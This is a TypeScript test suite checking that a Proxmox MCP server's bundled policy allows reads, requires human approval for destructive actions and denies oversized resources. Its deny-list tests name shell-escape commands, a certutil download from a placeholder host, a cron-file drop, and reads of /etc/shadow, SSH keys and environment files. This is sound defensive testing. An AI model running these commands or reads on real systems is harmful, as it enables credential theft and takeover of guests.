// The policy.json shipped in the repository, as a deployment without POLICY gets it.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { call, connect, ORIGIN, text, workerFetch } from '../support/worker/mcp';
import { sim } from '../support/worker/sim';
import bundled from '../../policy.json';
import { sha256Hex } from '../../src/encoding';
import { DEFAULT_SCOPES } from '../../src/core/scopes';
import { TOOLS } from '../../src/tools';
import performanceDoc from '../../docs/performance.md?raw';
import readme from '../../README.md?raw';

const RULE = '/tools/pve_create_qemu_vm/deny_if';

/**
 * Stand for a backup on pve1's local storage (their names carry the seed's dates), looked up
 * when a test runs: container 110's (untagged prod) and VM 100's (tagged prod).
 */
const CONTAINER_BACKUP = '(container 110 backup)';
const VM_BACKUP = '(VM 100 backup)';

async function backupOn(volume: string): Promise<string> {
  const vmid = volume === CONTAINER_BACKUP ? 110 : 100;
  const res = await sim.api('GET', `/nodes/pve1/storage/local/content?content=backup&vmid=${vmid}`);
  const [backup] = ((await res.json()) as { data: { volid: string }[] }).data;
  if (!backup) throw new Error(`no backup of ${vmid} on pve1/local`);
  return backup.volid;
}

describe('the bundled policy.json', () => {
  let client: Client;
  beforeAll(async () => {
    await sim.reset();
    client = await connect('http');
  });
  afterAll(() => client.close());

  it('is reported valid by /health', async () => {
    const body = (await (await workerFetch(`${ORIGIN}/health`)).json()) as Record<string, unknown>;
    // Seeded into the policy store as version 1, named by the SHA-256 of its text.
    const text = JSON.stringify(bundled, null, 2);
    expect(body.policy).toEqual({
      origin: 'policy.json',
      version: 1,
      sha256: await sha256Hex(text),
      valid: true,
    });
  });

  it('lists every tool in at most 1 KB each on average and 36 KB in all', async () => {
    const { tools } = await client.listTools();
    expect(tools).toHaveLength(36);
    const bytes = new TextEncoder().encode(JSON.stringify({ tools })).length;
    expect(bytes).toBeLessThanOrEqual(36 * 1024);
    expect(bytes / tools.length).toBeLessThanOrEqual(1024);
    // The figures the docs give are these, within 2% (docs/performance.md, the README).
    const byDefault = tools.filter((t) =>
      DEFAULT_SCOPES.includes(TOOLS.find((x) => x.name === t.name)!.scope),
    );
    const defaultBytes = new TextEncoder().encode(JSON.stringify({ tools: byDefault })).length;
    const stated =
      /`tools\/list` is (\d+) tools, ([\d,]+) bytes with every scope, and (\d+) tools, ([\d,]+) bytes with the scopes ticked by default/.exec(
        performanceDoc,
      );
    expect(stated, 'docs/performance.md states the tools/list figures').not.toBeNull();
    const n = (s: string) => Number(s.replace(/,/g, ''));
    expect([n(stated![1]!), n(stated![3]!)]).toEqual([tools.length, byDefault.length]);
    expect(Math.abs(n(stated![2]!) / bytes - 1), `all: ${bytes} bytes`).toBeLessThanOrEqual(0.02);
    expect(
      Math.abs(n(stated![4]!) / defaultBytes - 1),
      `default: ${defaultBytes} bytes`,
    ).toBeLessThanOrEqual(0.02);
    const inReadme = /tools\/list`\) take about ([\d.]+) KB/.exec(readme);
    expect(Math.abs((Number(inReadme?.[1]) * 1000) / bytes - 1), 'the README').toBeLessThanOrEqual(
      0.03,
    );
    // approval_id only where the policy may ask for an approval.
    const asking = tools.filter((t) => 'approval_id' in (t.inputSchema.properties ?? {}));
    expect(asking.map((t) => t.name).sort()).toEqual(
      Object.entries(bundled.tools)
        .filter(([, rule]) => (rule as { action?: string }).action === 'require_approval')
        .map(([name]) => name)
        .sort(),
    );
  });

  it('allows listing', async () => {
    expect((await call(client, 'pve_list_vms', {})).isError).toBeFalsy();
  });

  it('allows every read', async () => {
    for (const [tool, args] of [
      ['pve_get_version', {}],
      ['pve_get_cluster_status', {}],
      ['pve_list_nodes', {}],
      ['pve_get_node_metrics', { node: 'pve1' }],
      ['pve_list_resources', {}],
      ['pve_get_vm_status', { node: 'pve1', vmid: 100 }],
      ['pve_get_vm_config', { node: 'pve1', vmid: 100 }],
      ['pve_list_storage', {}],
      ['pve_list_backups', { node: 'pve1', storage: 'local' }],
      ['pve_list_storage_content', { node: 'pve1', storage: 'local', content: 'iso' }],
      ['pve_list_snapshots', { node: 'pve1', vmid: 100 }],
    ] as const) {
      const result = await call(client, tool, args);
      expect(result.isError, `${tool}: ${text(result)}`).toBeFalsy();
    }
  });

  it('lets power actions through (rate-limited per person)', async () => {
    const start = await call(client, 'pve_start_vm', { node: 'pve2', vmid: 104, confirm: true });
    expect(start.isError, text(start)).toBeFalsy();
    expect(start.structuredContent!.mode).toBe('started');
  });

  it.each([
    [
      'a hard stop',
      'pve_stop_vm',
      { node: 'pve1', vmid: 101, confirm: true },
      /hard power-off loses/,
    ],
    [
      'a rollback',
      'pve_rollback_snapshot',
      { node: 'pve1', vmid: 101, snapname: 'anything', confirm: true },
      /discards everything since the snapshot/,
    ],
    [
      'deleting a snapshot',
      'pve_delete_snapshot',
      { node: 'pve1', vmid: 101, snapname: 'anything', confirm: true },
      /cannot be undone/,
    ],
    [
      'destroying a guest',
      'pve_delete_vm',
      { node: 'pve2', vmid: 104, confirm: true },
      /deletes it and its disks for good/,
    ],
    [
      'a migration',
      'pve_migrate_vm',
      { node: 'pve2', vmid: 104, target: 'pve3', confirm: true },
      /Moving a guest to another node/,
    ],
    [
      'a command in a guest',
      'pve_guest_exec',
      {
        node: 'pve1',
        vmid: 100,
        command: ['systemctl', 'is-active', 'nginx.service'],
        confirm: true,
      },
      /A command runs inside the guest as root \(SYSTEM on Windows\)/,
    ],
    [
      'a restore',
      'pve_restore_backup',
      // A backup that is there (container 110's, untagged prod): the guest a restore makes is
      // judged with the tags its config holds, read from it.
      { node: 'pve1', volume: CONTAINER_BACKUP, confirm: true },
      /A restore creates a guest, or with force replaces one/,
    ],
    [
      'deleting a backup',
      'pve_delete_backup',
      // VM 100's (tagged prod): the all_tools rule asks too, the tool's own rule is said first.
      { node: 'pve1', volume: VM_BACKUP, confirm: true },
      /A deleted backup is gone for good/,
    ],
  ])(
    'asks a person to approve %s, sending nothing meanwhile',
    async (_label, tool, given, reason) => {
      const args =
        'volume' in given && (given.volume === CONTAINER_BACKUP || given.volume === VM_BACKUP)
          ? { ...given, volume: await backupOn(given.volume) }
          : given;
      await sim.clearLog();
      const result = await call(client, tool, args);
      expect(result.isError).toBe(true);
      expect(text(result)).toMatch(/^\[APPROVAL REQUIRED\] /);
      expect(text(result)).toMatch(reason);
      expect(result.structuredContent!.policy).toMatchObject({
        decision: 'approval_required',
        rule: `/tools/${tool}/action`,
      });
      expect(await sim.writes()).toEqual([]);
    },
  );

  it.each([
    ['sh', '-c', 'id'],
    ['/bin/bash'],
    ['./sh'],
    ['env', 'sh'],
    ['busybox', 'sh'],
    ['python3', '-c', '1'],
    ['/usr/bin/perl'],
    ['sudo', 'systemctl', 'status'],
    ['xargs', 'id'],
    ['find', '/', '-exec', 'id', ';'],
    ['cmd.exe', '/c', 'whoami'],
    ['PowerShell.exe'],
    ['/lib64/ld-linux-x86-64.so.2', '/bin/sh', '-c', 'id'],
    ['strace', '-f', 'sh'],
    ['nice', '-n', '0', 'sh'],
    ['gdb', '-ex', '!id'],
    ['vim.basic', '-es'],
    ['tar', '--checkpoint-action=exec=id', '-cf', '/dev/null', '/'],
    ['python.exe'],
    ['WSL.EXE'],
    ['cp', '/tmp/x', '/etc/cron.d/x'],
    ['docker', 'exec', 'web', 'sh'],
    ['certutil', '-urlcache', '-f', 'http://x/y', 'y.exe'],
    ['systemctl', '--no-pager', 'stop', 'nginx.service'],
    ['journalctl', '--vacuum-size=1'],
    ['ip', 'netns', 'exec', 'x', 'sh'],
  ])(
    'refuses %s as a command in a guest (no approval asked), sending nothing',
    async (...command) => {
      await sim.clearLog();
      const result = await call(client, 'pve_guest_exec', {
        node: 'pve1',
        vmid: 100,
        command,
        confirm: true,
      });
      expect(result.structuredContent!.policy).toMatchObject({ decision: 'deny' });
      expect(await sim.requests()).toEqual([]);
    },
  );

  it.each([
    ['df', '-h'],
    ['ip', '-br', 'addr'],
    ['journalctl', '-u', 'nginx.service', '-n', '50', '--no-pager'],
  ])(
    'asks a person to approve the diagnostic %s, sending nothing meanwhile',
    async (...command) => {
      await sim.clearLog();
      const result = await call(client, 'pve_guest_exec', {
        node: 'pve1',
        vmid: 100,
        command,
        confirm: true,
      });
      expect(result.structuredContent!.policy).toMatchObject({
        decision: 'approval_required',
        rule: '/tools/pve_guest_exec/action',
      });
      expect(await sim.writes()).toEqual([]);
    },
  );

  it('refuses stdin for a command in a guest, naming why, and sends nothing', async () => {
    await sim.clearLog();
    const result = await call(client, 'pve_guest_exec', {
      node: 'pve1',
      vmid: 100,
      command: ['ps', 'aux'],
      input_data: 'reboot\n',
      confirm: true,
    });
    expect(result.structuredContent!.policy).toMatchObject({
      decision: 'deny',
      rule: '/tools/pve_guest_exec/deny_if/0',
    });
    expect(text(result)).toMatch(/no stdin \(input_data\)/);
    expect(await sim.requests()).toEqual([]);
  });

  it('reads identity files, service configuration and logs inside a guest, and nothing secret', async () => {
    const read = (file: string) =>
      call(client, 'pve_guest_file_read', { node: 'pve1', vmid: 100, file });
    for (const file of ['/etc/os-release', '/etc/hostname', '/var/log/syslog']) {
      const r = await read(file);
      expect(r.isError, `${file}: ${text(r)}`).toBeFalsy();
    }
    await sim.clearLog();
    for (const file of [
      '/etc/shadow',
      '/etc/passwd',
      '/root/.bash_history',
      '/home/deploy/.ssh/id_ed25519',
      '/etc/ssl/private/server.key',
      '/proc/1/environ',
      '/srv/app/.env',
      '/etc/nginx/../shadow',
    ]) {
      const r = await read(file);
      expect(r.isError, file).toBe(true);
    }
    expect(await sim.requests()).toEqual([]);
    const info = await call(client, 'pve_guest_info', { node: 'pve1', vmid: 100 });
    expect(info.isError, text(info)).toBeFalsy();
  });

  it.each([
    '/var/log/installer/autoinstall-user-data',
    '/var/log/installer/syslog',
    '/var/log/cloud-init.log',
    '/var/log/cloud-init-output.log',
    '/var/log/btmp',
    '/var/log/btmp.1',
    '/var/log/wtmp',
    '/var/log/lastlog',
    '/var/log/faillog',
  ])('refuses %s, a log under /var/log that carries credentials, sending nothing', async (file) => {
    await sim.clearLog();
    const r = await call(client, 'pve_guest_file_read', { node: 'pve1', vmid: 100, file });
    expect(r.isError, file).toBe(true);
    expect(r.structuredContent!.policy).toMatchObject({
      decision: 'deny',
      rule: '/tools/pve_guest_file_read/deny_if/1',
    });
    expect(await sim.requests()).toEqual([]);
  });

  // The forms a review found passing: they print environments, unit files or every command
  // line, look where file reads never do, or never end. Refused by a rule, nobody asked.
  it.each([
    [['systemctl', 'show', '--property=Environment', 'nginx.service']],
    [['systemctl', 'cat', 'nginx.service']],
    [['ps', '-ewwo', 'pid,args']],
    [['ls', '-la', '/root/.ssh']],
    [['stat', '/etc/shadow']],
    [['journalctl', '-f']],
    [['systemctl', 'link', '/etc/systemd/system/evil.service/.']],
  ])('refuses %j without asking anyone, sending nothing', async (command) => {
    await sim.clearLog();
    const r = await call(client, 'pve_guest_exec', {
      node: 'pve1',
      vmid: 100,
      command,
      confirm: true,
    });
    expect(r.isError, text(r)).toBe(true);
    expect(r.structuredContent!.policy).toMatchObject({
      decision: 'deny',
      rule: expect.stringMatching(/^\/tools\/pve_guest_exec\/(deny_if|require)\/\d+$/),
    });
    expect(r.structuredContent).not.toHaveProperty('approval_id');
    expect(await sim.requests()).toEqual([]);
  });

  it('previews a stop without asking anyone (a preview changes nothing)', async () => {
    const result = await call(client, 'pve_stop_vm', { node: 'pve1', vmid: 101 });
    expect(result.isError, text(result)).toBeFalsy();
    expect(result.structuredContent!.mode).toBe('preview');
  });

  it.each<[string, Record<string, unknown>, string]>([
    ['memory over 32 GiB', { memory: 65536 }, `${RULE}/0`],
    ['more than 16 cores', { cores: 32 }, `${RULE}/1`],
    ['more than 2 sockets', { sockets: 4 }, `${RULE}/2`],
    ['a disk over 512 GiB', { scsi0: 'local-lvm:2048' }, `${RULE}/3`],
    ['attaching an existing volume', { scsi0: 'local-lvm:vm-100-disk-0' }, `${RULE}/4`],
    [
      "importing another VM's disk",
      { scsi0: 'local-lvm:0,import-from=local-lvm:vm-100-disk-0' },
      `${RULE}/5`,
    ],
  ])('denies %s, even as a preview, before writing anything', async (_label, args, rule) => {
    await sim.clearLog();
    const result = await call(client, 'pve_create_qemu_vm', { node: 'pve1', ...args });
    expect(result.isError).toBe(true);
    expect(text(result)).toMatch(/^\[POLICY DENIED\] /);
    expect(result.structuredContent!.policy).toMatchObject({ decision: 'deny', rule });
    // The only request: the read of the next free vmid, which the policy sees as args.vmid.
    expect(await sim.requestLines()).toEqual(['GET /api2/json/cluster/nextid']);
  });

  it('allows a modest VM with an imported cloud image', async () => {
    const result = await call(client, 'pve_create_qemu_vm', {
      node: 'pve1',
      memory: 4096,
      cores: 2,
      scsi0: 'local-lvm:0,import-from=local:import/debian-12-genericcloud-amd64.qcow2',
    });
    expect(result.isError, text(result)).toBeFalsy();
  });

  it('denies the raw API outright, with the reason, asking Proxmox nothing', async () => {
    await sim.clearLog();
    const result = await call(client, 'pve_api_request', { method: 'GET', path: '/version' });
    expect(text(result)).toMatch(
      /^\[POLICY DENIED\] The raw Proxmox API is not open to agents on this server/,
    );
    expect(result.structuredContent!.policy).toMatchObject({
      decision: 'deny',
      rule: '/tools/pve_api_request/action',
    });
    expect(await sim.requests()).toEqual([]);
  });

  const CLONE = { node: 'pve1', source_vmid: 9000 };
  const LXC = { node: 'pve1', ostemplate: 'local:vztmpl/debian-13-standard_13.1-2_amd64.tar.zst' };
  it.each<[string, string, Record<string, unknown>, string]>([
    [
      'a clone with more than 32 GiB',
      'pve_clone_vm',
      { ...CLONE, memory: 65536 },
      '/tools/pve_clone_vm/deny_if/0',
    ],
    [
      'a clone with more than 16 cores',
      'pve_clone_vm',
      { ...CLONE, cores: 32 },
      '/tools/pve_clone_vm/deny_if/1',
    ],
    [
      "a clone's disk grown by more than 512 GiB",
      'pve_clone_vm',
      { ...CLONE, resize: '+600G' },
      '/tools/pve_clone_vm/deny_if/2',
    ],
    [
      'a privileged container',
      'pve_create_lxc',
      { ...LXC, unprivileged: false },
      '/tools/pve_create_lxc/deny_if/0',
    ],
    [
      'a container over 32 GiB',
      'pve_create_lxc',
      { ...LXC, memory: 40000 },
      '/tools/pve_create_lxc/deny_if/1',
    ],
    [
      'a container root disk over 512 GiB',
      'pve_create_lxc',
      { ...LXC, rootfs: 'local-lvm:1024' },
      '/tools/pve_create_lxc/deny_if/3',
    ],
    [
      'a container on an existing volume',
      'pve_create_lxc',
      { ...LXC, rootfs: 'local-lvm:vm-110-disk-0' },
      '/tools/pve_create_lxc/deny_if/4',
    ],
    [
      'a resize by more than 512 GiB',
      'pve_resize_disk',
      { node: 'pve1', vmid: 100, disk: 'scsi0', size: '+1T' },
      '/tools/pve_resize_disk/deny_if/0',
    ],
    [
      'turning protection off',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 102, config: { protection: false } },
      '/tools/pve_set_vm_config/deny_if/0',
    ],
    [
      'deleting protection',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 102, delete: ['protection'] },
      '/tools/pve_set_vm_config/deny_if/1',
    ],
    [
      'a config with more than 32 GiB',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 100, config: { memory: 65536 } },
      '/tools/pve_set_vm_config/deny_if/2',
    ],
    [
      'a new disk over 512 GiB in any slot',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 100, config: { virtio3: 'local-lvm:600' } },
      '/tools/pve_set_vm_config/deny_if/5',
    ],
    [
      "importing another guest's disk",
      'pve_set_vm_config',
      {
        node: 'pve1',
        vmid: 100,
        config: { sata1: 'local-lvm:0,import-from=local-lvm:vm-101-disk-0' },
      },
      '/tools/pve_set_vm_config/deny_if/6',
    ],
    [
      'a balloon target over 32 GiB',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 100, config: { balloon: 65536 } },
      '/tools/pve_set_vm_config/deny_if/7',
    ],
    [
      'more than 32 vCPUs',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 100, config: { vcpus: 64 } },
      '/tools/pve_set_vm_config/deny_if/8',
    ],
    [
      "a container's swap over 32 GiB",
      'pve_set_vm_config',
      { node: 'pve1', vmid: 110, vm_type: 'lxc', config: { swap: 65536 } },
      '/tools/pve_set_vm_config/deny_if/9',
    ],
    [
      'three new 512 GiB disks in one change (1536 GiB together)',
      'pve_set_vm_config',
      {
        node: 'pve1',
        vmid: 100,
        config: { virtio3: 'local-lvm:512', virtio4: 'local-lvm:512', sata3: 'local-lvm:512' },
      },
      '/tools/pve_set_vm_config/deny_if/10',
    ],
    [
      'a CPU weight above the default',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 100, config: { cpuunits: 10000 } },
      '/tools/pve_set_vm_config/deny_if/11',
    ],
    [
      "a container's CPU weight above the default",
      'pve_set_vm_config',
      { node: 'pve1', vmid: 110, vm_type: 'lxc', config: { cpuunits: 500 } },
      '/tools/pve_set_vm_config/deny_if/11',
    ],
    [
      'a memory share above the default',
      'pve_set_vm_config',
      { node: 'pve1', vmid: 100, config: { shares: 50000 } },
      '/tools/pve_set_vm_config/deny_if/12',
    ],
    [
      'dozens of small new disks over 1024 GiB together',
      'pve_set_vm_config',
      {
        node: 'pve1',
        vmid: 100,
        config: Object.fromEntries(
          Array.from({ length: 12 }, (_, i) => [`virtio${i + 3}`, 'local-lvm:100']),
        ),
      },
      '/tools/pve_set_vm_config/deny_if/10',
    ],
  ])('denies %s, even as a preview, writing nothing', async (_label, tool, args, rule) => {
    await sim.clearLog();
    const result = await call(client, tool, args);
    expect(text(result)).toMatch(/^\[POLICY DENIED\] /);
    expect(result.structuredContent!.policy).toMatchObject({ decision: 'deny', rule });
    expect(await sim.writes()).toEqual([]);
  });

  describe('a clone of a big VM, by what it takes from its source', () => {
    const BIG = { node: 'pve1', source_vmid: 102 };
    const raise = async (params: Record<string, string>, path = 'config') => {
      const res = await sim.api('PUT', `/nodes/pve1/qemu/102/${path}`, params);
      expect(res.status, await res.text()).toBe(200);
      // A resize is a task: wait until the config says the new size (256 GiB + the growth).
      const grown = path === 'resize' ? `size=${256 + Number(params.size!.slice(1, -1))}G` : null;
      for (let i = 0; grown && !String((await sim.guest(102)).config.scsi1).includes(grown); i++) {
        if (i > 100) throw new Error(`scsi1 of VM 102 never reached ${grown}`);
        await new Promise((r) => setTimeout(r, 50));
      }
    };
    beforeAll(() => sim.reset());
    afterAll(() => sim.reset());

    it.each<[string, Record<string, string>, string, Record<string, unknown>, RegExp]>([
      ['its memory', { memory: '65536' }, 'config', {}, /at most 32 GiB of memory/],
      ['its cores', { cores: '32' }, 'config', {}, /at most 16 cores/],
      ['its sockets', { sockets: '4' }, 'config', {}, /at most 2 sockets/],
      [
        'its disks, 128 + 256 + 700 GiB together',
        { disk: 'scsi1', size: '+700G' },
        'resize',
        {},
        /at most 1024 GiB together/,
      ],
      [
        'its disks and a resize, 128 + 256 + 500 + 200 GiB',
        { disk: 'scsi1', size: '+500G' },
        'resize',
        { resize: '+200G' },
        /at most 1024 GiB together/,
      ],
    ])(
      'refuses a clone that would take %s, writing nothing',
      async (_label, params, path, args, reason) => {
        await sim.reset();
        await raise(params, path);
        await sim.clearLog();
        const result = await call(client, 'pve_clone_vm', { ...BIG, ...args, confirm: true });
        expect(text(result)).toMatch(/^\[POLICY DENIED\] /);
        expect(text(result)).toMatch(reason);
        expect(await sim.writes()).toEqual([]);
      },
    );

    it('lets the call set what it would otherwise take (memory, cores), and previews it', async () => {
      await sim.reset();
      await raise({ memory: '65536', cores: '32' });
      const result = await call(client, 'pve_clone_vm', { ...BIG, memory: 8192, cores: 4 });
      expect(result.isError, text(result)).toBeFalsy();
      expect(result.structuredContent!.mode).toBe('preview');
    });
  });

  it.each<[string, Record<string, unknown>]>([
    [
      'pve_clone_vm',
      {
        ...CLONE,
        name: 'web-01',
        memory: 4096,
        cores: 2,
        resize: '+20G',
        ciuser: 'ops',
        start: true,
      },
    ],
    ['pve_clone_vm', { node: 'pve1', source_vmid: 102, name: 'db-copy' }],
    ['pve_create_lxc', { ...LXC, hostname: 'ct-01', memory: 1024, rootfs: 'local-lvm:8' }],
    ['pve_resize_disk', { node: 'pve1', vmid: 100, disk: 'scsi0', size: '+20G' }],
    [
      'pve_set_vm_config',
      {
        node: 'pve1',
        vmid: 100,
        config: { memory: 8192, virtio3: 'local-lvm:64', protection: true },
      },
    ],
    [
      'pve_set_vm_config',
      {
        node: 'pve1',
        vmid: 100,
        config: {
          balloon: 4096,
          vcpus: 2,
          virtio3: 'local-lvm:512',
          virtio4: 'local-lvm:512',
          cpuunits: 50,
          shares: 500,
        },
      },
    ],
    [
      'pve_set_vm_config',
      {
        node: 'pve1',
        vmid: 110,
        vm_type: 'lxc',
        config: { swap: 1024, mp0: 'local-lvm:100,mp=/data' },
      },
    ],
  ])('previews a modest %s', async (tool, args) => {
    const result = await call(client, tool, args);
    expect(result.isError, text(result)).toBeFalsy();
    expect(result.structuredContent!.mode).toBe('preview');
  });
});
